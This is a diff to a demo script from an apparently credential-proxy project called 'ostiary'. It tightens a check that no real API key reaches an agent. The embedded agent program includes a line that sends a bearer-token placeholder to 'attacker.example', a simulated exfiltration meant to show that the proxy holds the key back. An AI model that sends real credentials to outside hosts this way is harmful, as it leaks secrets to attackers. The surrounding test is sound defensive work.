@@ -16,7 +16,7 @@ from ostiary.demo.telling import below, chapter, draw, note, run, say, shell
 from ostiary.protocol.errors import Conflict
 from ostiary.proxy.egress import RunAuthority
 
-KEYLESS = """import os, sys, urllib.error, urllib.request
+KEYLESS = """import os, re, sys, urllib.error, urllib.request
 
 def ask(url, **headers):
     try:
@@ -31,7 +31,8 @@ stolen = ask("http://attacker.example/", Authorization="Bearer OSTIARY:shop")
 print("orders:", orders)
 print("echo:", echo)
 print("the placeholder to another server:", stolen)
-print("a key is here" if "sk-" in f"{os.environ} {orders} {echo}" else "no key in answers, environment and words")
+seen = f"{os.environ} {sys.argv} {orders} {echo}"
+print("a key is here" if re.search("sk-[0-9a-f]{24}", seen) else "no key in answers, environment and words")
 """
 """The program of the agent. It sends a placeholder to a server that does not own the key."""
 
